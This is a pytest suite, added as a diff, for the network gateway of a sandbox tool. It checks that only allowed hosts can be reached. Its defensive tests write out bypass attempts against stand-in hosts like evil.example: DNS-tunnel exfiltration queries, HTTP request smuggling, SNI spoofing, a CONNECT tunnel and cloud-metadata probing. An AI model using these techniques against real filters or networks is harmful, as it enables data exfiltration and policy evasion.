@@ -1,0 +1,531 @@
+"""Network policies: what is allowed works as without dsec in between, and whatever a sandbox tries, nothing else does."""
+
+import json
+import os
+import signal
+import subprocess
+import time
+
+import leftovers
+import network_world
+import pytest
+import rootfs
+
+# In every script of a test that runs inside.
+PRELUDE = r"""
+import errno, json, os, socket, struct, sys, time
+socket.setdefaulttimeout(8)
+def tcp(address, port, data=b"", family=None):
+    try:
+        c = socket.create_connection((address, port), 8)
+        if data: c.sendall(data)
+        got = b""
+        while part := c.recv(65536):
+            got += part
+            if len(got) > 1 << 20: break
+        return got.decode("latin1")
+    except ConnectionResetError: return "reset"
+    except OSError as e: return errno.errorcode.get(e.errno, type(e).__name__)
+def http(address, host, path="/", port=80):
+    return tcp(address, port, f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
+def status(answer): return answer.split("\r\n")[0].split(" ", 1)[-1] if answer.startswith("HTTP") else answer
+def body(answer): return answer.partition("\r\n\r\n")[2]
+def udp(address, port, data, wait=1.0):
+    s = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(wait)
+    s.sendto(data, (address, port))
+    try: return s.recvfrom(65536)[0].decode("latin1")
+    except OSError: return "nothing"
+def look_up(name):
+    try: return sorted({x[4][0] for x in socket.getaddrinfo(name, 80)})
+    except socket.gaierror as e: return "no"
+def vec(b, n): return len(b).to_bytes(n, "big") + b
+def ext(t, b): return t.to_bytes(2, "big") + vec(b, 2)
+def hello(name=None, more=b""):
+    e = (ext(0, vec(b"\0" + vec(name.encode(), 2), 2)) if name else b"") + ext(43, b"\2\3\4") + more
+    m = b"\3\3" + b"r" * 32 + b"\0" + vec(b"\x13\1", 2) + b"\1\0" + vec(e, 2)
+    return b"\x16\3\1" + vec(b"\1" + vec(m, 3), 2)
+def query(name, kind=1):
+    q = b"".join(vec(l.encode(), 1) for l in name.split(".")) + b"\0" + struct.pack("!HH", kind, 1)
+    return b"\0\7\1\0\0\1\0\0\0\0\0\0" + q
+"""
+TLS_DENIED = r"\x15\x03\x03\x00\x02\x02\x31"
+# The host's Python with what it needs, over an empty folder of the sandbox.
+PYTHON = ["-v", "/usr:/usr:ro", "-v", "/usr/lib:/lib:ro", *(["-v", "/usr/lib64:/lib64:ro"] if os.path.isdir("/usr/lib64") else [])]
+
+
+class Box:
+    """One sandbox of a test."""
+
+    def __init__(self, dsec, *flags, what: str = "base/box"):
+        self.dsec = dsec
+        self.id = dsec.ok("create", what, *PYTHON, *flags).strip()
+
+    def py(self, script: str, **kwargs):
+        """What a script prints inside, as Python reads it."""
+        return self.dsec.ok("exec", self.id, "--", "/usr/bin/python3", "-c", PRELUDE + script, **kwargs).strip()
+
+    def popen(self, script: str):
+        return self.dsec.popen("exec", self.id, "--", "/usr/bin/python3", "-uc", PRELUDE + script)
+
+    def log(self, *flags) -> list[dict]:
+        out = self.dsec.ok("net", "log", self.id, "-o", "json", *flags)
+        return [json.loads(line) for line in out.splitlines()]
+
+    def show(self) -> dict:
+        return self.dsec.json("net", "show", self.id)
+
+
+@pytest.fixture
+def world(work):
+    world = network_world.World(work, work / "home")
+    yield world
+    world.close()
+
+
+@pytest.fixture
+def dsec(world):
+    tool = world.dsec
+    rootfs.import_base(tool)
+    yield tool
+    ids = os.listdir(tool.home / "sandboxes")
+    for sandbox in ids:
+        tool.run("rm", "-f", sandbox)
+    tool.ok("gc")
+    faults = leftovers.sweep(tool.home, ids)
+    assert not faults, "left on the host after gc:\n" + "\n".join(faults)
+
+
+def eventually(check, seconds: float = 5.0):
+    end = time.monotonic() + seconds
+    while not (found := check()) and time.monotonic() < end:
+        time.sleep(0.02)
+    return found
+
+
+def test_allowed_hosts_are_reached_by_name_and_others_are_not(dsec, world):
+    box = Box(dsec, "--allow", "good.example", "--allow", "*.wild.example", "--allow", "dual.example", "--allow", "six.example")
+    assert box.py("print(body(http('good.example', 'good.example')))") == "11.0.0.10 good.example"
+    assert box.py("print(body(http('a.wild.example', 'a.wild.example')))") == "11.0.0.14 a.wild.example"
+    assert box.py("print(body(http('six.example', 'six.example')))") == "2a00:1::6 six.example"
+    assert box.py("print(tcp('good.example', 443, hello('good.example')))") == "at 11.0.0.10"
+    assert box.py("print(look_up('evil.example'), look_up('empty.example'))") == "no no"
+    assert box.dsec.ok("exec", box.id, "--", "wget", "-qO-", "http://good.example/x") == "11.0.0.10 good.example\n"
+    assert {record["at"] for record in world.seen("http") + world.seen("hello")} <= {"11.0.0.10", "11.0.0.14", "2a00:1::6"}
+
+
+def test_names_that_are_not_allowed_never_leave_the_host(dsec, world):
+    box = Box(dsec, "--allow", "good.example")
+    assert box.py("print(look_up('c2VjcmV0.tunnel.example'), look_up('good.example') != 'no')") == "no True"
+    # Another resolver is the same one, and another type of an allowed name has no answer.
+    lines = box.py("""
+open("/etc/resolv.conf", "w").write("nameserver 11.0.0.53\\n")
+print(look_up("more.tunnel.example"))
+print(udp("11.0.0.53", 53, query("secret.tunnel.example"))[3] == "\\x83")
+q = query("other.tunnel.example")
+c = socket.create_connection(("11.0.0.53", 53)); c.sendall(len(q).to_bytes(2, "big") + q); print(c.recv(999)[5] == 0x83)
+for kind in (5, 16, 65): print(udp("11.0.0.53", 53, query("good.example", kind))[6:8].encode("latin1"))
+print(udp("11.0.0.53", 53, b"exfiltrated words"), tcp("11.0.0.53", 53, b"\\0\\5words"))
+""").splitlines()
+    assert lines == ["no", "True", "True"] + [r"b'\x00\x00'"] * 3 + ["nothing reset"]
+    assert {record["name"] for record in world.seen("dns")} == {"good.example"}
+    denied = [record for record in box.log("--denied") if record["protocol"] == "dns"]
+    assert "c2vjcmv0.tunnel.example" in {record["host"] for record in denied}
+
+
+def test_an_address_alone_needs_a_rule_of_its_own(dsec, world):
+    box = Box(dsec, "--allow", "good.example", "--allow", "11.0.0.20:9000")
+    lines = box.py("""
+print(status(http("11.0.0.10", "11.0.0.10")), tcp("11.0.0.10", 443, hello()) == "%s", tcp("11.0.0.10", 9000, b"x"))
+print(body(http("11.0.0.66", "good.example")).strip())
+print(tcp("11.0.0.66", 443, hello("good.example")).strip())
+c = socket.create_connection(("11.0.0.20", 9000)); c.sendall(b"echo"); print(c.recv(9))
+print(tcp("11.0.0.20", 9001), tcp("11.0.0.21", 9000))
+""" % TLS_DENIED).splitlines()
+    assert lines == ["403 Forbidden True reset", "11.0.0.10 good.example", "at 11.0.0.10", "b'echo'", "reset reset"]
+    # Never the address that the sandbox gave, but the gateway's own resolution of the name.
+    assert not [record for record in world.seen("http") + world.seen("hello") if record["at"] == "11.0.0.66"]
+
+
+def test_other_ports_and_protocols_of_an_allowed_host_are_closed(dsec, world):
+    box = Box(dsec, "--allow", "good.example", "--allow", "other.example:2222", "--allow", "udp/other.example:7777")
+    lines = box.py("""
+print(tcp("good.example", 9000, b"x"), tcp("good.example", 8080, b"GET / HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n"))
+c = socket.create_connection(("other.example", 2222)); print(c.recv(100)); c.sendall(b"hi"); print(c.recv(9))
+at = socket.gethostbyname("other.example")
+print(udp(at, 7777, b"hello"), udp(at, 7778, b"x"), udp(socket.gethostbyname("good.example"), 7777, b"x"))
+print(udp(at, 7777, b"y" * 40000)[-3:])
+""").splitlines()
+    assert lines[0] == "reset reset"
+    assert lines[1:3] == ["b'SSH-2.0-11.0.0.11\\r\\n'", "b'hi'"]
+    assert lines[3:] == ["11.0.0.11 hello nothing nothing", "yyy"]
+    assert {record["at"] for record in world.seen("udp")} == {"11.0.0.11"}
+
+
+def test_ipv6_is_held_to_the_rules_like_ipv4(dsec, world):
+    box = Box(dsec, "--allow", "dual.example", "--allow", "[2a00:1::20]:9000", "--allow", "[2a00:1::20]:2222",
+              "--allow", "udp/[2a00:1::20]:7777")
+    lines = box.py("""
+print(tcp("2a00:1::66", 443, hello("evil.example")) == "%s", tcp("2a00:1::66", 9000, b"x"), tcp("2a00:1::20", 9001))
+print(body(http("2a00:1::66", "dual.example")).split()[1])
+c = socket.create_connection(("2a00:1::20", 2222)); print(c.recv(100))
+print(udp("2a00:1::20", 7777, b"six"), udp("2a00:1::21", 7777, b"six"))
+s = [x for x in socket.getaddrinfo("dual.example", 80, socket.AF_INET6, socket.SOCK_STREAM)]
+c = socket.socket(socket.AF_INET6); c.connect(s[0][4]); c.sendall(b"GET / HTTP/1.0\\r\\nHost: dual.example\\r\\n\\r\\n"); print(c.recv(9))
+""" % TLS_DENIED).splitlines()
+    assert lines == ["True reset reset", "dual.example", "b'SSH-2.0-2a00:1::20\\r\\n'", "2a00:1::20 six nothing", "b'HTTP/1.1 '"]
+
+
+def test_what_the_first_bytes_name_must_be_allowed_too(dsec, world):
+    box = Box(dsec, "--allow", "good.example", "--allow", "other.example", "--allow", "11.0.0.20")
+    lines = box.py("""
+denied = "%s"
+print(tcp("good.example", 443, hello("evil.example")) == denied, tcp("good.example", 443, hello("other.example")).strip())
+print(status(http("good.example", "evil.example")), status(http("good.example", "other.example")))
+two = "GET /1 HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\nGET /2 HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n"
+print(tcp("good.example", 80, two.encode()).count("11.0.0.10 evil.example"))
+smuggled = "POST / HTTP/1.1\\r\\nHost: good.example\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n"
+print(status(tcp("good.example", 80, smuggled.encode())))
+print(tcp("good.example", 443, hello() + b"x").strip())
+# A host that is allowed by its address is that, whatever name it has.
+print(tcp("11.0.0.20", 443, hello("evil.example")).strip())
+print(status(tcp("good.example", 80, b"CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n")))
+""" % TLS_DENIED).splitlines()
+    assert lines == ["True at 11.0.0.10", "403 Forbidden 200 OK", "0", "403 Forbidden", "at 11.0.0.10", "at 11.0.0.20", "403 Forbidden"]
+    assert "evil.example" not in {record.get("host") for record in world.seen("http")}
+
+
+def test_strict_mode_takes_only_what_shows_whom_it_is_for(dsec, world):
+    box = Box(dsec, "--allow", "good.example:*", "--allow", "other.example")
+    dsec.ok("net", "set", box.id, "--strict")
+    lines = box.py("""
+denied = "%s"
+print(tcp("good.example", 443, hello("good.example")).strip())
+print(tcp("good.example", 443, hello("good.example", ext(0xfe0d, b"x"))) == denied, tcp("good.example", 443, hello()) == denied)
+print(tcp("good.example", 443, hello("other.example")) == denied, status(http("good.example", "other.example")))
+print(tcp("good.example", 9000, b"neither\\n"), status(http("good.example", "good.example")))
+""" % TLS_DENIED).splitlines()
+    assert lines == ["at 11.0.0.10", "True True", "True 403 Forbidden", "reset 200 OK"]
+    assert any("encrypted" in record["reason"] for record in box.log("--denied"))
+
+
+def test_a_redirect_to_a_denied_host_ends_there(dsec, world):
+    box = Box(dsec, "--allow", "good.example", "--allow", "11.0.0.10")
+    wget = ["exec", box.id, "--", "env", "-u", "http_proxy", "wget", "-qO-"]
+    assert dsec.ok(*wget, "http://good.example/redirect?to=http://good.example/end") == "11.0.0.10 good.example\n"
+    assert dsec.run(*wget, "http://good.example/redirect?to=http://evil.example/").code != 0
+    assert dsec.run(*wget, "http://good.example/redirect?to=http://11.0.0.66/").code != 0
+    # Through the proxy as well.
+    assert dsec.run("exec", box.id, "--", "wget", "-qO-", "http://good.example/redirect?to=http://evil.example/").code != 0
+    assert "11.0.0.66" not in {record["at"] for record in world.seen("http")}
+
+
+def test_private_addresses_metadata_and_this_host_must_be_named(dsec, world):
+    names = ["metadata.example", "local.example", "private.example"]
+    box = Box(dsec, *(flag for name in names for flag in ("--allow", name)), "--allow", "0.0.0.0/0", "--allow", "::/0")
+    lines = box.py("""
+for name in ("metadata.example", "local.example", "private.example"): print(status(http(name, name)))
+for address in ("169.254.169.254", "10.1.2.3", "198.18.99.99", "192.0.2.1", "fd00:ec2::254"): print(tcp(address, 9000, b"x"))
+print(body(http("11.0.0.30", "11.0.0.30")))
+""").splitlines()
+    assert lines == ["403 Forbidden"] * 3 + ["reset"] * 5 + ["11.0.0.30 11.0.0.30"]
+    assert {record["at"] for record in world.seen("http")} == {"11.0.0.30"}
+    dsec.ok("net", "set", box.id, *(flag for name in names for flag in ("--allow", name)), "--allow", "10.0.0.0/8:80",
+            "--allow", "127.0.0.0/8:80", "--allow", "169.254.169.254:80")
+    lines = box.py("for name in ('metadata.example', 'local.example', 'private.example'): print(body(http(name, name)).split()[0])")
+    assert lines.splitlines() == ["169.254.169.254", "127.0.0.1", "10.1.2.3"]
+
+
+def test_nothing_goes_around_the_gateway(dsec, world):
+    box = Box(dsec, "--allow", "good.example")
+    lines = box.py("""
+def refused(make):
+    try: make(); return "made"
+    except OSError as e: return errno.errorcode[e.errno]
+print(refused(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 255)), refused(lambda: socket.socket(17, socket.SOCK_RAW, 3)))
+import ctypes; libc = ctypes.CDLL(None, use_errno=True)
+for flags in (0x40000000, 0x10000000 | 0x40000000):
+    print(libc.unshare(flags), errno.errorcode[ctypes.get_errno()])
+# The gateway's own ports: they are taken, and lead nowhere.
+ports = {int(l.split()[1].split(":")[1], 16) for f in ("tcp", "tcp6") for l in open("/proc/net/" + f).readlines()[1:] if l.split()[3] == "0A"}
+for port in ports:
+    print(refused(lambda: socket.socket().bind(("0.0.0.0", port))), tcp("127.0.0.1", port, b"x"), tcp("192.0.2.2", port, b"x"))
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
+print(refused(lambda: s.setsockopt(0, 19, 1)))
+# One's own server at an address of somebody else is one's own, and is not reached from the outside.
+mine = socket.socket(); mine.bind(("11.0.0.66", 80)); mine.listen()
+print(status(http("11.0.0.66", "good.example")))
+print(len(ports))
+""").splitlines()
+    assert lines[0] == "EPERM EPERM"
+    assert lines[1:3] == ["-1 EPERM"] * 2
+    assert lines[3] == "EADDRINUSE reset reset"
+    assert lines[4] == "EPERM"
+    assert lines[5:] == ["200 OK", "1"]
+
+
+def test_the_sandbox_itself_is_not_the_outside(dsec, world):
+    box = Box(dsec, "--network", "policy")
+    lines = box.py("""
+s = socket.socket(); s.bind(("127.0.0.1", 8000)); s.listen()
+c = socket.create_connection(("127.0.0.1", 8000)); s.accept()[0].sendall(b"own"); print(c.recv(9))
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("127.0.0.1", 0)); u.sendto(b"own", u.getsockname()); print(u.recv(9))
+print(look_up("good.example"), tcp("11.0.0.10", 80, b"x"))
+""").splitlines()
+    assert lines == ["b'own'", "b'own'", "no reset"]
+    assert not world.seen("dns")
+
+
+def test_a_policy_is_replaced_at_once_and_cuts_what_it_no_longer_allows(dsec, world):
+    box = Box(dsec, "--allow", "good.example", "--allow", "other.example")
+    script = """
+c = socket.create_connection(("%s", 80)); c.sendall(b"GET /drip?seconds=20 HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n")
+try:
+    while part := c.recv(65536): print("some")
+    print("end")
+except ConnectionResetError: print("cut")
+"""
+    going, cut = (box.popen(script % (host, host)) for host in ("other.example", "good.example"))
+    assert going.stdout.readline() == cut.stdout.readline() == b"some\n"
+    dsec.ok("net", "set", box.id, "--allow", "other.example")
+    assert cut.communicate(timeout=10)[0].endswith(b"cut\n")
+    assert going.poll() is None and going.stdout.readline() == b"some\n"
+    assert box.py("print(look_up('good.example'), status(http('other.example', 'other.example')))") == "no 200 OK"
+    assert eventually(lambda: [r for r in world.seen("broken")])
+    assert [r["host"] for r in box.log("--denied") if "the policy was changed" in r["reason"]] == ["good.example"]
+    dsec.ok("net", "set", box.id, "--nothing")
+    assert going.communicate(timeout=10)[0].endswith(b"cut\n")
+
+
+def test_phases_switch_policies(dsec, world):
+    (dsec.cwd / "dsec.yaml").write_text("""version: 1
+environments:
+  demo:
+    base: base/box
+    network: {allow: [good.example], phases: {setup: {allow: [other.example]}, verify: none}, phase: setup}
+""")
+    box = Box(dsec, what="demo")
+    ask = "print(*[look_up(name) != 'no' for name in ('good.example', 'other.example')])"
+    assert box.py(ask) == "False True"
+    for phase, answer in (("agent", "True False"), ("verify", "False False"), ("none", "True False"), ("setup", "False True")):
+        dsec.ok("net", "set", box.id, "--phase", phase)
+        assert box.py(ask) == answer, phase
+    assert box.show()["plan"]["phase"] == "setup"
+    assert {record.get("phase") for record in box.log()} == {"setup", "agent", "verify", None}
+
+
+def test_a_killed_gateway_closes_the_network_and_the_next_command_opens_it(dsec, world):
+    box = Box(dsec, "--allow", "good.example")
+    assert box.py("print(status(http('good.example', 'good.example')))") == "200 OK"
+    waiting = dsec.popen("exec", "-i", box.id, "--", "/usr/bin/python3", "-uc", PRELUDE + """
+print("ready")
+sys.stdin.readline()
+try: print(socket.create_connection(("11.0.0.10", 80), 1))
+except OSError as e: print("closed")
+sys.stdin.readline()
+print(status(http("good.example", "good.example")))
+""")
+    assert waiting.stdout.readline() == b"ready\n"
+    first = network_world.gateway_of(dsec.home)
+    os.kill(first, signal.SIGKILL)
+    waiting.stdin.write(b"\n")
+    waiting.stdin.flush()
+    assert waiting.stdout.readline() == b"closed\n"
+    assert box.show()["attached"] is False
+    dsec.ok("exec", box.id, "--", "true")
+    assert box.show()["attached"] is True
+    assert network_world.gateway_of(dsec.home) != first
+    waiting.stdin.write(b"\n")
+    waiting.stdin.flush()
+    assert waiting.communicate(timeout=20)[0] == b"200 OK\n"
+
+
+def test_one_gateway_without_rights_serves_all_and_ends_with_the_last(dsec, world):
+    boxes = [Box(dsec, "--allow", "good.example"), Box(dsec, "--allow", "other.example")]
+    pid = network_world.gateway_of(dsec.home)
+    status = dict(line.split(":", 1) for line in open(f"/proc/{pid}/status").read().splitlines())
+    assert status["Uid"].split()[0] == "65534" and int(status["CapPrm"], 16) == 0 and status["NoNewPrivs"].strip() == "1"
+    assert (dsec.home / "run" / "egress.sock").stat().st_mode & 0o777 == 0o600
+    assert [box.py("print(look_up('good.example') != 'no', look_up('other.example') != 'no')") for box in boxes] == ["True False", "False True"]
+    dsec.ok("rm", "-f", boxes[0].id)
+    assert boxes[1].show()["attached"] is True
+    # One that ends without anybody's doing is let go of as well.
+    dsec.ok("stop", boxes[1].id)
+    assert eventually(lambda: network_world.gateway_of(dsec.home) is None)
+
+
+def test_a_thousand_connections_at_once(dsec, world):
+    box = Box(dsec, "--allow", "good.example:9000")
+    script = """
+import resource; resource.setrlimit(resource.RLIMIT_NOFILE, (4096, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
+at = socket.gethostbyname("good.example")
+all = []
+for i in range(1000):
+    c = socket.socket(); c.connect((at, 9000)); c.sendall(b"%04d" % i); all.append(c)
+print(sum(c.recv(4) == b"%04d" % i for i, c in enumerate(all)))
+try: more = [socket.create_connection((at, 9000)) for i in range(50)]; [m.sendall(b"x") for m in more]; print(sum(bool(m.recv(1)) for m in more))
+except ConnectionResetError: print("reset")
+"""
+    assert box.py(script).splitlines() == ["1000", "reset"]
+    assert "limit of 1024 connections" in box.log("--denied")[-1]["reason"]
+    assert eventually(lambda: box.show()["connections"] == 0)
+
+
+def test_bytes_have_a_limit(dsec, world):
+    (dsec.cwd / "dsec.yaml").write_text("""version: 1
+environments:
+  demo:
+    base: base/box
+    network: {allow: [good.example], limits: {bytes: 1MiB, connections: 5}}
+""")
+    box = Box(dsec, what="demo")
+    lines = box.py("""
+print(len(body(http("good.example", "good.example", "/big?bytes=500000"))))
+print(http("good.example", "good.example", "/big?bytes=5000000")[:5], http("good.example", "good.example")[:5])
+""").splitlines()
+    assert lines == ["500000", "reset reset"]
+    assert "bytes is reached" in box.log("--denied")[-1]["reason"]
+
+
+def test_large_transfers_pass_both_ways_with_half_closed_ends(dsec, world):
+    box = Box(dsec, "--allow", "good.example", "--allow", "good.example:9000")
+    lines = box.py("""
+print(len(body(http("good.example", "good.example", "/big?bytes=1000000"))))
+size = 5_000_000
+c = socket.create_connection(("good.example", 80)); c.sendall(b"POST / HTTP/1.1\\r\\nHost: good.example\\r\\nContent-Length: %d\\r\\nConnection: close\\r\\n\\r\\n" % size)
+c.sendall(b"y" * size); got = b""
+while part := c.recv(4096): got += part
+print(got.split(b"\\r\\n\\r\\n")[1].decode())
+import threading
+c = socket.create_connection(("good.example", 9000))
+def send(): c.sendall(b"z" * size); c.shutdown(socket.SHUT_WR)
+t = threading.Thread(target=send); t.start(); total = 0
+while part := c.recv(65536): total += len(part)
+print(total)
+""", timeout=60).splitlines()
+    assert lines == ["1000000", "5000000", "5000000"]
+    record = [r for r in box.log() if r.get("port") == 9000][-1]
+    assert (record["verdict"], record["sent"], record["received"]) == ("allow", 5000000, 5000000)
+    assert record["host"] == "good.example" and record["address"] == "11.0.0.10" and record["reason"] == "allow good.example:9000"
+
+
+def test_a_proxy_is_offered_and_recorded_nowhere(dsec, world):
+    box = Box(dsec, "--allow", "good.example", "--allow", "good.example:2222", "--allow", "11.0.0.20:80")
+    assert dsec.ok("exec", box.id, "--", "sh", "-c", "echo $http_proxy $HTTPS_PROXY").split() == ["http://192.0.2.1:3128"] * 2
+    recorded = dsec.json("inspect", box.id)
+    assert "proxy" not in json.dumps((recorded[0] if isinstance(recorded, list) else recorded)["spec"]).lower()
+    lines = box.py("""
+import urllib.request
+print(urllib.request.urlopen("http://good.example/x").read().decode().strip())
+def proxied(request): return tcp("192.0.2.1", 3128, request.encode())
+def tunnel(to, data):
+    c = socket.create_connection(("192.0.2.1", 3128)); c.sendall(b"CONNECT " + to.encode() + b" HTTP/1.1\\r\\n\\r\\n")
+    answer = ""
+    while not answer.endswith("\\r\\n\\r\\n"): answer += c.recv(1).decode()
+    if " 200 " not in answer: return answer.split("\\r\\n")[0]
+    c.sendall(data)
+    try: return c.recv(999).decode("latin1").strip()
+    except ConnectionResetError: return "reset"
+print(tunnel("good.example:443", hello("good.example")), tunnel("good.example:2222", b""))
+print(tunnel("evil.example:443", b""), tunnel("11.0.0.66:81", b""), tunnel("good.example:53", b""))
+print(tunnel("good.example:443", hello("evil.example")) == "%s")
+print(status(proxied("GET http://evil.example/ HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n")), status(proxied("GET / HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n")))
+print(body(proxied("GET http://11.0.0.20/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")))
+""" % TLS_DENIED).splitlines()
+    assert lines[0] == "11.0.0.10 good.example"
+    assert lines[1] == "at 11.0.0.10 SSH-2.0-11.0.0.10"
+    assert lines[2] == "HTTP/1.1 403 Forbidden HTTP/1.1 403 Forbidden HTTP/1.1 403 Forbidden"
+    assert lines[3:] == ["True", "403 Forbidden 400 Bad Request", "11.0.0.20 11.0.0.20"]
+
+
+def test_every_request_is_logged_with_its_verdict(dsec, world):
+    box = Box(dsec, "--allow", "good.example", "--deny", "evil.example")
+    box.py("http('good.example', 'good.example'); tcp('11.0.0.66', 443, hello('evil.example')); tcp('good.example', 22); udp('11.0.0.10', 7777, b'x', 0.1)")
+    log = eventually(lambda: box.log() if len(box.log()) >= 5 else None)
+    by = {(r["protocol"], r["verdict"]): r for r in log}
+    allowed = by["http", "allow"]
+    assert (allowed["host"], allowed["address"], allowed["port"], allowed["requests"]) == ("good.example", "11.0.0.10", 80, 1)
+    assert allowed["sent"] > 0 and allowed["received"] > 0 and "duration_ms" in allowed
+    assert by["tls", "deny"]["reason"] == "deny evil.example" and by["tls", "deny"]["host"] == "evil.example"
+    assert by["tcp", "deny"]["reason"] == "no rule allows it" and by["tcp", "deny"]["port"] == 22
+    assert by["udp", "deny"]["address"] == "11.0.0.10"
+    assert by["dns", "allow"]["host"] == "good.example"
+    text = dsec.ok("net", "log", box.id, "--denied")
+    assert "deny  tls  evil.example 11.0.0.66:443  (deny evil.example)" in text
+    shown = dsec.ok("net", "show", box.id)
+    assert "allow  good.example" in shown and "deny   evil.example" in shown
+
+
+@pytest.fixture
+def certificate(work):
+    name = work / "server.pem"
+    made = subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout", work / "key.pem",
+                           "-out", work / "ca.pem", "-days", "2", "-subj", "/CN=good.example", "-addext", "subjectAltName=DNS:good.example"],
+                          capture_output=True, text=True)
+    assert made.returncode == 0, made.stderr
+    name.write_text((work / "key.pem").read_text() + (work / "ca.pem").read_text())
+    return work / "ca.pem"
+
+
+def test_a_secret_header_is_added_on_the_way_and_never_enters(certificate, dsec, world):
+    dsec.env |= {"SSL_CERT_FILE": str(certificate), "API_KEY": "sk-very-secret"}
+    (dsec.cwd / "dsec.yaml").write_text("""version: 1
+environments:
+  demo:
+    base: base/box
+    network:
+      inject:
+        - {host: good.example, prefix: "Bearer ", secret: "env:API_KEY", port: 8443}
+        - {host: other.example, secret: "env:API_KEY", port: 8443}
+""")
+    box = Box(dsec, what="demo")
+    lines = box.py("""
+a = http("good.example", "good.example", "/api"); print(body(a) or a)
+one = "GET /1 HTTP/1.1\\r\\nHost: good.example\\r\\nauthorization: mine\\r\\n\\r\\n"
+print(tcp("good.example", 80, (one + one.replace("GET /1", "GET /2").replace("\\r\\n\\r\\n", "\\r\\nConnection: close\\r\\n\\r\\n")).encode()).count("200 OK"))
+import urllib.request; print(urllib.request.urlopen("http://good.example/proxied").read().decode().strip())
+print(status(http("good.example", "evil.example")), status(http("other.example", "other.example")), tcp("good.example", 443, hello("good.example")))
+""").splitlines()
+    assert [line for line in lines if line] == ["11.0.0.10 good.example", "2", "11.0.0.10 good.example", "403 Forbidden 502 Bad Gateway reset"]
+    seen = world.seen("http")
+    assert [record["path"] for record in seen] == ["/api", "/1", "/2", "/proxied"]
+    assert all(record["headers"]["Authorization"] == "Bearer sk-very-secret" for record in seen)
+    # The other host has no certificate that proves it, so it got nothing.
+    assert any("certificate" in record["reason"] or "mismatch" in record["reason"] for record in box.log())
+    assert "sk-very-secret" not in json.dumps(dsec.json("inspect", box.id)) + dsec.ok("exec", box.id, "--", "env") + dsec.ok("net", "show", box.id)
+    # Nor in any file of ours; of run/ the namespaces cannot be read.
+    grep = subprocess.run(["grep", "-rlsa", "--devices=skip", "--exclude-dir=run", "sk-very-secret", dsec.home], capture_output=True, text=True)
+    assert grep.stdout == ""
+
+
+def test_what_cannot_be_enforced_is_refused(dsec, world):
+    assert "did you mean pypi" in dsec.fails(125, "run", "--allow", "pipy", "base/box", "--", "true")
+    assert "is a URL" in dsec.fails(125, "run", "--allow", "https://pypi.org", "base/box", "--", "true")
+    assert "make a policy" in dsec.fails(125, "run", "--network", "host", "--allow", "pypi", "base/box", "--", "true")
+    plain = dsec.ok("create", "base/box").strip()
+    assert "without a network policy" in dsec.fails(2, "net", "set", plain, "--allow", "pypi")
+    assert dsec.ok("net", "show", plain) == "network none\n"
+    (dsec.cwd / "dsec.yaml").write_text("""version: 1
+environments:
+  demo: {base: base/box, network: {inject: [{host: a.example, secret: "env:NOT_THERE"}]}}
+""")
+    assert "NOT_THERE" in dsec.fails(125, "run", "demo", "--", "true")
+
+
+def test_build_steps_may_have_a_policy(dsec, world):
+    (dsec.cwd / "dsec.yaml").write_text("""version: 1
+layers:
+  workspace/fetched:
+    on: base/box
+    steps:
+      - run: wget -qO /fetched http://good.example/file && ! wget -qO- http://evil.example/
+        network: {allow: [good.example]}
+""")
+    dsec.ok("build", "workspace/fetched")
+    assert dsec.ok("run", "base/box", "workspace/fetched", "--", "cat", "/fetched") == "11.0.0.10 good.example\n"
+    assert {record["at"] for record in world.seen("http")} == {"11.0.0.10"}
+
+
+def test_truncated_answers_are_asked_for_again_over_tcp(dsec, world):
+    box = Box(dsec, "--allow", "large.example")
+    assert box.py("print(body(http('large.example', 'large.example')))") == "11.0.0.13 large.example"
+    assert any(record["stream"] for record in world.seen("dns"))
